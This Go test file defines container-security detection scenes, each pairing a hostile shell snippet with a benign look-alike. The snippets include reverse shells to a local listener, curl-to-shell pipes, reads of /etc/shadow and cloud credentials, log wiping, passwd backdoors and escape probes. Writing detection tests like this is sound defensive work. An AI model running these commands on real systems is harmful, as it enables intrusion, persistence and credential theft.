//go:build linux

package rulestest

// scene is a rule, what it must see, and what it must not take for that. Both
// are shell scripts; $PORT is where somebody listens who types commands into
// whatever connects, and $QUIET where somebody listens who says nothing.
type scene struct {
	rule     string
	deed     string
	harmless string
	call     string // the kernel must have it, where not every kernel does; test/kernels has such as do
}

// Programs go by innocent names: what a rule knows must be what they do.
const renamed = `
mkdir -p /srv/app; cd /srv/app
cp /usr/bin/nc.traditional report; cp /usr/bin/bash worker; cp /usr/bin/cat render; cp /usr/bin/nmap audit-lib 2>/dev/null; cp /usr/bin/id helper
`

var shellScenes = []scene{
	{
		rule:     "Command shell through netcat in a container",
		deed:     `./report 127.0.0.1 $PORT -e /bin/bash`,
		harmless: `./report -z 127.0.0.1 $QUIET; ./report -h; sh -ec 'true 4444'; nc.traditional -z 127.0.0.1 $QUIET`,
	},
	{
		rule:     "Shell on a network connection in a container",
		deed:     `perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in($ENV{PORT},inet_aton("127.0.0.1")));open(STDIN,"<&S");open(STDOUT,">&S");exec("/bin/sh","-i")'`,
		harmless: `perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in($ENV{QUIET},inet_aton("127.0.0.1")));system("/bin/sh","-c","true")'`,
	},
	{
		rule:     "Program on a network connection in a container",
		deed:     `python3 -c 'import socket,os;s=socket.create_connection(("127.0.0.1",int(os.environ["PORT"])));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.execv("/srv/app/worker",["worker"])'`,
		harmless: `python3 -c 'import socket,os;s=socket.create_connection(("127.0.0.1",int(os.environ["QUIET"])));s.set_inheritable(True);os.execv("/srv/app/helper",["helper"])'`,
	},
	{
		rule:     "Standard input became a network connection in a container",
		deed:     `./worker -c "exec 0<>/dev/tcp/127.0.0.1/$PORT; read -t 1 x"`,
		harmless: `./worker -c "exec 9<>/dev/null; exec 0<&9; read -t 1 x"`,
	},
	{
		rule:     "Shell opened a network connection in a container",
		deed:     `./worker -c "exec 5<>/dev/tcp/127.0.0.1/$QUIET"`,
		harmless: `./worker -c "./report -z 127.0.0.1 $QUIET"`,
	},
	{
		rule:     "Shell on a named pipe in a container",
		deed:     `mknod queue p; ./report 127.0.0.1 $PORT <queue | bash >queue; rm queue`,
		harmless: `mkfifo q2; (echo hello >q2 &); cat q2; echo true | sh; rm q2`,
	},
	{
		rule:     "Network client joined to a named pipe in a container",
		deed:     `mkfifo out; sh -i <out 2>&1 | ./report 127.0.0.1 $PORT >out; rm out`,
		harmless: `echo hello | ./report -q 0 -w 1 127.0.0.1 $QUIET | cat`,
	},
	{
		rule: "Interactive shell fed by a program in a container",
		deed: `python3 -c 'import socket,subprocess
a,b=socket.socketpair(); p=subprocess.Popen(["/bin/sh"],stdin=b,stdout=b); a.sendall(b"id\nexit\n"); p.wait()'`,
		harmless: `python3 -c 'import socket,subprocess
a,b=socket.socketpair(); subprocess.Popen(["/bin/sh","-c","true"],stdin=b,stdout=b).wait()'; echo true | sh`,
	},
	{
		rule:     "Interpreter one-liner joins a socket and a shell in a container",
		deed:     `python3 -c 'import socket,subprocess,os;s=socket.create_connection(("127.0.0.1",int(os.environ["PORT"])));subprocess.call(["/bin/sh"],stdin=s.fileno(),stdout=s.fileno())'`,
		harmless: `python3 -c 'import socket,os;socket.create_connection(("127.0.0.1",int(os.environ["QUIET"]))).close()'; python3 -c 'import subprocess;subprocess.call(["true"])'`,
	},
}

var traceScenes = []scene{
	{
		rule:     "Logging data removed in a container",
		deed:     `echo line >/var/log/app-a.log; : >/var/log/app-a.log; unlink /var/log/app-a.log`,
		harmless: `echo line >/var/log/app-b.log; mv /var/log/app-b.log /var/log/app-b.log.1; echo new >/var/log/app-b.log; gzip /var/log/app-b.log.1; rm /var/log/app-b.log.1.gz; cat /var/log/app-b.log`,
	},
	{rule: "Shell history removed in a container", deed: `echo x >/root/.bash_history; unlink /root/.bash_history`, harmless: `echo x >>/root/.ash_history; cat /root/.ash_history`},
	{
		rule:     "Program deleted its own file in a container",
		deed:     `cp /usr/bin/perl self; ./self -e 'unlink "/srv/app/self"'`,
		harmless: `cp /usr/bin/perl other; ./other -e 'open(F,">/srv/app/tmpfile");close F;unlink "/srv/app/tmpfile"'`,
	},
	{rule: "Shell started without a history in a container", deed: `HISTFILE=/dev/null ./worker -c true; HISTFILE=/dev/null bash -c true`, harmless: `HISTFILE=/root/.hist bash -c true`},
}

var persistenceScenes = []scene{
	{
		rule:     "SSH configuration altered in a container",
		deed:     `echo PermitRootLogin yes >>/etc/ssh/sshd_config; sed -i s/yes/no/ /etc/ssh/sshd_config; mkdir -p /root/.ssh; echo key >>/root/.ssh/authorized_keys`,
		harmless: `./render /etc/ssh/sshd_config; grep -c . /etc/ssh/sshd_config; mkdir -p /root/.ssh; echo host >>/root/.ssh/known_hosts`,
	},
	{
		rule:     "Package repository added or changed in a container",
		deed:     `mkdir -p /etc/apt/sources.list.d; ./render >/etc/apt/sources.list.d/x.list </dev/null`,
		harmless: `cat /etc/apt/sources.list; mkdir -p /etc/apt/preferences.d; echo x >/etc/apt/preferences.d/x`,
	},
	{rule: "Scheduled job added in a container", deed: `mkdir -p /etc/cron.d; echo job >/etc/cron.d/x`, harmless: `mkdir -p /etc/cron.d; ls /etc/cron.d; cat /etc/cron.d/* | wc -l`},
	{rule: "Start-up file changed in a container", deed: `echo x >>/root/.bashrc`, harmless: `cat /root/.bashrc; echo x >/root/.vimrc`},
	{rule: "Library forced into every program of a container", deed: `touch /etc/ld.so.preload; rm /etc/ld.so.preload`, harmless: `cat /etc/ld.so.preload /etc/ld.so.cache >/dev/null; LD_PRELOAD= true`},
	{rule: "Account file altered in a container", deed: `echo 'x:x:0:0::/:/bin/sh' >>/etc/passwd`, harmless: `cat /etc/passwd; id; getent passwd root`},
	{rule: "Program made setuid in a container", deed: `cp /usr/bin/id su-x; chmod 4755 su-x`, harmless: `cp /usr/bin/id plain; chmod 755 plain; mkdir -p d; chmod g+s d`},
	{
		rule:     "Script written into a web server's directory",
		deed:     `mkdir -p /var/www/html; bash -c 'echo "<?php ?>" >/var/www/html/x.php'`,
		harmless: `mkdir -p /var/www/html; bash -c 'echo hi >/var/www/html/x.html; cat /var/www/html/*'`,
	},
}

var executionScenes = []scene{
	{rule: "Program that came after the container's start was executed", deed: `./helper`, harmless: `id; /usr/bin/id`},
	{
		rule: "Program executed from memory in a container",
		deed: `python3 -c 'import os
f=os.memfd_create("x"); os.write(f,open("/usr/bin/id","rb").read()); os.execve(f,["kworker"],{"SCENE":os.environ["SCENE"]})'`,
		harmless: `python3 -c 'import os
f=os.memfd_create("x"); os.write(f,b"data"); os.execv("/usr/bin/id",["id"])'`,
	},
	{rule: "Program executed from shared memory in a container", deed: `mount -o remount,exec /dev/shm; cp /usr/bin/id /dev/shm/job; /dev/shm/job`, harmless: `echo data >/dev/shm/data; cat /dev/shm/data`},
	{rule: "Hidden program executed in a container", deed: `mkdir -p /tmp/.x; cp /usr/bin/id /tmp/.x/job; /tmp/.x/job`, harmless: `mkdir -p /tmp/x; cp /usr/bin/id /tmp/x/job; /tmp/x/job; ls -la /tmp/.x`},
	{
		rule:     "Fetched text given to an interpreter in a container",
		deed:     `bash -c 'curl -s -m 1 http://127.0.0.1:1/x | sh'; true`,
		harmless: `bash -c 'curl -s -m 1 http://127.0.0.1:1/x | wc -l'; bash -c 'echo true | sh'`,
	},
	{
		rule:     "Shell fed by a download in a container",
		deed:     `sh -c 'set -m; wget -q -T 1 -t 1 -O- http://127.0.0.1:1/x | bash'; bash -c 'curl -s -m 1 http://127.0.0.1:1/x | bash'; true`,
		harmless: `bash -c 'echo true | bash'; bash -c 'curl -s -m 1 http://127.0.0.1:1/x | cat'`,
	},
	{
		rule:     "Another process's memory or control taken in a container",
		deed:     `sleep 3 & python3 -c 'import ctypes,sys;ctypes.CDLL(None).ptrace(16,int(sys.argv[1]),0,0)' $!`,
		harmless: `python3 -c 'import ctypes;ctypes.CDLL(None).ptrace(0,0,0,0)'; cat /proc/self/maps >/dev/null`,
	},
	{
		rule:     "io_uring used in a container",
		deed:     `python3 -c 'import ctypes;ctypes.CDLL(None).syscall(425,4,ctypes.create_string_buffer(120))'`,
		harmless: `python3 -c 'import select;select.epoll()'`,
	},
}

var credentialScenes = []scene{
	{rule: "Password hashes read in a container", deed: `./render /etc/shadow`, harmless: `./render /etc/passwd; ls -l /etc/shadow; stat /etc/shadow`},
	{
		rule:     "SSH private key read in a container",
		deed:     `mkdir -p /root/.ssh; echo k >/root/.ssh/id_ed25519; ./render /root/.ssh/id_ed25519`,
		harmless: `mkdir -p /root/.ssh; echo k >/root/.ssh/id_ed25519.pub; ./render /root/.ssh/id_ed25519.pub`,
	},
	{rule: "Service account token read by a tool in a container", deed: `./render /run/secrets/kubernetes.io/serviceaccount/token`, harmless: `perl -e 'open(F,"/run/secrets/kubernetes.io/serviceaccount/token");print <F>'; cat /run/secrets/kubernetes.io/serviceaccount/ca.crt`},
	{rule: "Cloud metadata asked by a tool in a container", deed: `./report -w 1 -z 169.254.169.254 80`, harmless: `curl -s -m 1 http://127.0.0.1:$QUIET/latest/meta-data`},
	{rule: "Stored credentials read by a tool in a container", deed: `mkdir -p /root/.aws; echo k >/root/.aws/credentials; ./render /root/.aws/credentials`, harmless: `mkdir -p /root/.aws; echo k >/root/.aws/config; ./render /root/.aws/config`},
	{rule: "Environment of another process read in a container", deed: `./render /proc/1/environ`, harmless: `./render /proc/self/environ; ./render /proc/1/status`},
}

var escapeScenes = []scene{
	{rule: "Other namespaces entered from a container", deed: `cp /usr/bin/nsenter tool; ./tool -t $$ -u true`, harmless: `ls -l /proc/self/ns; readlink /proc/1/ns/mnt`},
	{rule: "New user namespace made in a container", deed: `cp /usr/bin/unshare tool2; ./tool2 -U true`, harmless: `unshare -u true`},
	{rule: "File system of a device mounted in a container", deed: `mkdir -p m; mount -t ext4 /dev/vdz9 m`, harmless: `mkdir -p m2; mount -t tmpfs none m2 && umount m2`},
	{rule: "Control group or kernel file system mounted in a container", deed: `mkdir -p c; mount -t proc proc c && umount c`, harmless: `mkdir -p c2; mount -t tmpfs proc c2 && umount c2`},
	{rule: "Kernel told to run a program from a container", deed: `: >>/proc/sys/kernel/core_pattern`, harmless: `cat /proc/sys/kernel/core_pattern; : >>/srv/app/core_pattern.txt`},
	{rule: "Runtime's own program opened for writing in a container", deed: `bash -c ': >>/proc/self/exe'`, harmless: `bash -c 'head -c 4 /proc/self/exe >/dev/null; : >>/srv/app/exe'`},
	{
		rule:     "Container runtime's socket used in a container",
		deed:     `python3 -c 'import socket;socket.socket(socket.AF_UNIX).connect("/run/containerd/containerd.sock")'`,
		harmless: `python3 -c 'import socket;socket.socket(socket.AF_UNIX).connect("/run/app.sock")'`,
	},
	{rule: "Disk or memory of the node opened in a container", deed: `./render /dev/vdz`, harmless: `head -c 1 /dev/zero | wc -c; ls -l /dev`},
	{rule: "Device file made in a container", deed: `mknod disk b 254 0; rm -f disk`, harmless: `mkfifo pipe; rm pipe; mknod null c 1 3; rm -f null`},
	{rule: "Root directory changed in a container", deed: `chroot / true`, harmless: `cd /; true`},
	{
		rule:     "File opened by handle in a container",
		deed:     `python3 -c 'import ctypes;ctypes.CDLL(None).syscall(304,3,ctypes.create_string_buffer(64),0)'`,
		harmless: `python3 -c 'open("/etc/passwd").read()'`,
	},
	{rule: "Processes of the host looked into from a container", deed: `./render /proc/1/root/etc/passwd`, harmless: `./render /proc/1/cmdline; ls -l /proc/self`},
}

var otherScenes = []scene{
	{
		rule:     "Reconnaissance tool started in a container",
		deed:     `cp /usr/bin/true audit-lib; ./audit-lib -sT -Pn -p 1-100 127.0.0.1; ./report -zv 127.0.0.1 $QUIET-$QUIET`,
		harmless: `./report -z 127.0.0.1 $QUIET; ps -A >/dev/null; curl -sS -m 1 http://127.0.0.1:$QUIET`,
	},
	{
		rule:     "Commands that look around in a container", // what listens at $PORT types id
		deed:     `./report 127.0.0.1 $PORT -e /srv/app/worker`,
		harmless: `id; uname -a; cat /etc/passwd`,
	},
	{
		rule: "Many hosts tried on one port",
		deed: `python3 -c 'import socket
for n in range(1,60):
  s=socket.socket(); s.settimeout(1); s.connect_ex(("127.0.2.%d"%n,7070)); s.close()'`,
		harmless: `python3 -c 'import socket
for n in range(60):
  s=socket.socket(); s.settimeout(1); s.connect_ex(("127.0.2.%d"%(n%20+1),7171)); s.close()'`,
	},
	{
		rule: "Secret read and connection by the same process",
		deed: `perl -e 'use Socket;open(F,"/etc/shadow");<F>;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in($ENV{QUIET},inet_aton("127.0.0.1")))'`,
		harmless: `perl -e 'use Socket;open(F,"/etc/passwd");<F>;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in($ENV{QUIET},inet_aton("127.0.0.1")))'
cat /etc/shadow >/dev/null; ./report -z 127.0.0.1 $QUIET`,
	},
	{
		rule:     "Crypto miner started in a container",
		deed:     `cp /usr/bin/true kernel-helper; ./kernel-helper -o stratum+tcp://127.0.0.1:3333 -u me`,
		harmless: `cp /usr/bin/true uploader; ./uploader -o out.txt -u https://example.org/`,
	},
	{
		rule:     "Mining pool contacted from a container",
		deed:     `python3 /srv/dns.py eu.pool.minexmr.com`,
		harmless: `python3 /srv/dns.py www.example.org`,
	},
	{rule: "CPU tuned for mining in a container", deed: `: >>/proc/sys/vm/nr_hugepages`, harmless: `cat /proc/sys/vm/nr_hugepages`},
	{
		rule:     "Kernel module loaded from a container",
		deed:     `python3 -c 'import ctypes;ctypes.CDLL(None).syscall(175,0,0,b"")'`,
		harmless: `cat /proc/modules | head -1`,
		call:     "init_module",
	},
	{
		rule:     "BPF program loaded from a container",
		deed:     `python3 -c 'import ctypes;ctypes.CDLL(None).syscall(321,5,ctypes.create_string_buffer(128),128)'`,
		harmless: `python3 -c 'import ctypes;ctypes.CDLL(None).syscall(321,0,ctypes.create_string_buffer(128),128)'`,
	},
	{rule: "Kernel parameter written from a container", deed: `: >>/proc/sys/kernel/randomize_va_space`, harmless: `cat /proc/sys/kernel/randomize_va_space`},
	{
		rule:     "Client of the Kubernetes API started in a container",
		deed:     `cp /usr/bin/true agentd; ./agentd get secrets -A`,
		harmless: `cp /usr/bin/true store; ./store get key; ls`,
	},
}

// fromOutside are the scenes of what the runtime starts by itself; env, which
// names the scene, becomes the program.
var fromOutside = []scene{
	{rule: "Shell started in a container from outside", deed: "/bin/sh", harmless: "/bin/sh -c true"},
	{rule: "Command run in a container from outside", deed: "/bin/true"},
	// Somebody has entered by then.
	{rule: "Entered from outside, then traces removed", deed: "/bin/rm /var/log/entered.log", harmless: "/bin/rm /var/lib/entered"},
}

// onTerminal are the scenes of what the runtime starts on a terminal, as those of
// fromOutside.
var onTerminal = []scene{
	{rule: "Terminal opened into a container from outside", deed: "/bin/bash", harmless: "/bin/cat"},
}
